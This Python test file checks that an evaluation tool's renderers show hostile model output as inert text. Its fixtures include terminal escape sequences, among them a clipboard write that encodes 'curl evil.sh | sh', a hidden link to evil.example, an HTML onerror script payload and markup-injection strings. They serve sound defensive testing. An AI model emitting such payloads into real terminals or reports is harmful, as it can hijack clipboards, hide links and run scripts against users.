"""Hostile model output and data through every renderer: the terminal tables, report.md, the run
report and the model card show Rich markup, escape sequences, HTML and table syntax as inert text."""

from __future__ import annotations

import io
import re
from pathlib import Path
from types import SimpleNamespace

import pytest
import yaml

from assay import tasks
from assay.compare import compare_runs
from assay.report import markdown, model_card, run_markdown, summarize_run
from assay.text.inert import cell, cut, md_code, md_fence, md_inline, one_line, terminal

FIXTURES = Path(__file__).parent.parent / "fixtures"

MARKUP = "[/bold][link=https://evil.example]click[/link][bold red]"
OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"          # write to the clipboard
OSC8 = "\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\"  # a hidden terminal link
CSI = "\x1b[2J\x1b[H\x1b[31m"                                # clear screen, home, red
TITLE = "\x1b]0;pwned\x07"
C1 = "\x9b31m\x85"
HTML = "<IMG SRC=X ONERROR=&#97;&#108;&#101;&#114;&#116;(1)></details><h1>owned</h1>"
TABLE = "a|b\n---\n| x |"
SLICE = f"easy{MARKUP}{OSC8}|\n---\n$\\frac{{x$"  # the '$...$' would be read as TeX
ITEM_ID = f"7|{TABLE}{CSI}"
LABEL = f"ft{MARKUP}"
BAD = (MARKUP, "\x1b]52", "\x1b]8", "\x1b[2J", "\x1b]0", "\x9b")


def _plain(text: str) -> str:
    """Rendered text without the colour codes Rich adds (SGR only; anything else stays)."""
    return re.sub(r"\x1b\[[0-9;]*m", "", text)


def _inert_terminal(text: str) -> None:
    assert "\x1b]" not in text and "\x07" not in text and "\x9b" not in text
    assert "\x1b[2J" not in text and "\x1b[H" not in text


# ---- the escaping functions --------------------------------------------------------------

def test_terminal_strips_escape_sequences_and_controls():
    text = f"a{OSC52}b{OSC8}c{CSI}d{TITLE}e{C1}f\x00\x08\x7f\u202eg\nh\ti\r\nj"
    assert terminal(text) == "abherecdef" + "g\nh\ti\nj"
    assert terminal("plain [x] text") == "plain [x] text"
    assert terminal("\x1b]52;c;unterminated" + "x" * 10) == ""  # swallowed, as a terminal would
    assert one_line("a\n\n b\tc") == "a b c"


def test_cell_escapes_rich_markup_and_renders_it_literally():
    from rich.console import Console

    out = io.StringIO()
    Console(file=out, force_terminal=True, width=300).print(cell(MARKUP + OSC8, None))
    rendered = _plain(out.getvalue())
    assert MARKUP in rendered and "here" in rendered
    assert "\x1b]8;" not in rendered  # no live link
    assert len(cell("x" * 10_000)) < 200


def test_md_inline_shows_html_pipes_and_newlines_as_text():
    text = md_inline(f"{HTML} {TABLE} *em* _x_ snake_case `code` [l](u) ~~s~~ #")
    assert "<" not in text and "\n" not in text
    assert re.search(r"(?<!\\)\|", text) is None
    assert "snake_case" in text and r"\*em\*" in text and r"\_x\_" in text
    assert md_inline("# title").startswith(r"\#")
    assert md_inline("x" * 1000).endswith("(700 more characters)")


def test_md_code_and_fence_hold_any_backticks():
    assert md_code("a`b") == "``a`b``" and md_code("`x`") == "`` `x` ``"
    fence = md_fence("x\n````\n</details>")
    assert fence[0] == "`````" and fence[-1] == "`````" and "</details>" in fence[1]
    assert cut("abcdef", 3) == "abc... (3 more characters)" and cut("abc", 3) == "abc"


# ---- through the renderers -----------------------------------------------------------------

@pytest.fixture
def hostile(monkeypatch, tmp_path):
    monkeypatch.syspath_prepend(str(FIXTURES))
    import cmp_task

    monkeypatch.setitem(tasks.TASKS, cmp_task.NAME, cmp_task.CmpTask)
    recs = cmp_task.table_records(cand=LABEL)
    for r in recs:
        r["scores"]["slice"] = SLICE if int(r["id"]) % 2 else "hard"
        if r["id"] == "0":
            r["id"] = ITEM_ID
        if r["model"] == LABEL and r["scores"]["correct"] is False:
            r["output"] = f"{CSI}{OSC52}```\n</details><h1>out</h1>{TITLE}"
            r["parse_error"] = f"verdict {HTML!r} is not A, B or TIE " + "y" * 1_000_000
    run = cmp_task.write_run(tmp_path / "run", recs)
    return compare_runs(run, n_resamples=200), run


def _outside_fences(md: str) -> list[str]:
    lines, fence = [], None
    for line in md.splitlines():
        ticks = re.match(r"^(`{3,})", line)
        if fence is None and ticks:
            fence = ticks.group(1)
        elif fence is not None and line == fence:
            fence = None
        elif fence is None:
            lines.append(line)
    return lines


def _check_markdown(md: str) -> None:
    assert not any(c in md for c in "\x1b\x07\x9b\x00")
    outside = _outside_fences(md)
    tags = {t.lower() for line in outside for t in re.findall(r"</?[A-Za-z][A-Za-z0-9]*", line)}
    assert tags <= {"<details", "<summary", "</summary", "</details"}, tags
    assert "---" not in outside[1:] or md.startswith("---")
    assert max(len(line) for line in md.splitlines()) < 5000  # a 1 MB parse error is cut
    for block in "\n".join(outside).split("\n\n"):
        rows = [r for r in block.splitlines() if r.startswith("|")]
        widths = {len(re.findall(r"(?<!\\)\|", r)) for r in rows}
        assert len(widths) <= 1, rows  # no cell adds or removes a column


def test_report_markdown_is_inert(hostile):
    cmp, _ = hostile
    md = markdown(cmp)
    _check_markdown(md)
    assert "&lt;IMG SRC=X ONERROR=" in md and "(parse failure: verdict" in md
    assert md_inline(ITEM_ID) in md


def test_run_report_is_inert(hostile):
    _, run = hostile
    _check_markdown(run_markdown(summarize_run(run)))


def test_model_card_is_inert_and_its_front_matter_parses(hostile):
    cmp, _ = hostile
    card = model_card(cmp, base_model=f'org/base"){CSI}\n```\nimport os', adapter=f"./a{TABLE}",
                      model_name=f"{MARKUP}\n---\n{HTML}")
    assert card.startswith("---\n")
    head, body = card[4:].split("\n---\n", 1)
    meta = yaml.safe_load(head)
    assert meta["model-index"][0]["name"] == f"{MARKUP}\n---\n{HTML}"  # data, quoted by YAML
    _check_markdown(body)
    code = body.split("```python\n", 1)[1].split("\n```", 1)[0]
    compile(code, "card", "exec")  # the usage block is still valid Python, names quoted


def test_terminal_comparison_table_is_inert(hostile, monkeypatch):
    from rich.console import Console

    from assay.commands import compare as cmd

    cmp, _ = hostile
    out = io.StringIO()
    monkeypatch.setattr(cmd, "_console", lambda: Console(file=out, force_terminal=True,
                                                         width=400))
    cmd.show_comparison(cmp)  # a [/bold] in a slice name raised MarkupError here
    text = out.getvalue()
    _inert_terminal(text)
    assert "[/bold]" in _plain(text) and "\x1b]8;" not in text


def test_terminal_eval_table_is_inert(monkeypatch):
    from rich.console import Console

    from assay.commands import _common
    from assay.commands.eval import show

    out = io.StringIO()
    monkeypatch.setattr(_common, "out_console",
                        lambda: Console(file=out, force_terminal=True, width=400))
    label, metric = f"m{MARKUP}", f"kappa/{SLICE}{OSC52}"
    result = SimpleNamespace(
        out_dir=Path(f"run{CSI}"), requests_sent=1, cache_hits=0, errors=0,
        manifest={"task": f"t{TITLE}{MARKUP}", "data": {"n_items": 1}},
        metrics={"models": {label: {metric: 0.5}}, "baselines": {label: {}},
                 "parse_failure_rate": {label: 0.0}, "truncated_share": {label: 0.0}})
    show(result, False)
    text = out.getvalue()
    _inert_terminal(text)
    assert "[/bold]" in _plain(text)


def test_report_command_prints_its_summary_inert(hostile, tmp_path, capsys):
    from assay.commands.report import report_command

    _, run = hostile
    report_command(str(run), out=str(tmp_path / "rep"), base_model=None, adapter=None,
                   model_name=None, dataset_name=None, plots=False, as_json=False)
    _inert_terminal(capsys.readouterr().out)


def test_cli_error_is_one_inert_line(monkeypatch, capsys):
    from assay import cli
    from assay.errors import AssayError

    def boom(_):
        raise AssayError(f"bad value {CSI}{OSC52}\nsecond line. Fix: do this")
    monkeypatch.setattr(cli, "build_app", boom)
    with pytest.raises(SystemExit) as exc:
        cli.main()
    err = capsys.readouterr().err
    assert exc.value.code == 2 and err.count("\n") == 1
    assert err.startswith("error: bad value ") and "Fix: do this" in err
    _inert_terminal(err)


def test_plots_draw_hostile_labels_as_text(hostile, tmp_path):
    pytest.importorskip("matplotlib")
    from assay.report import write_report

    cmp, run = hostile
    files = write_report(cmp, tmp_path / "rep", plots=True)
    assert files.plots and all(p.stat().st_size > 0 for p in files.plots)
    assert all(p.parent == tmp_path / "rep" / "plots" for p in files.plots)
    _check_markdown(files.markdown.read_text())
    assert write_report(summarize_run(run), tmp_path / "rep2", plots=True).plots
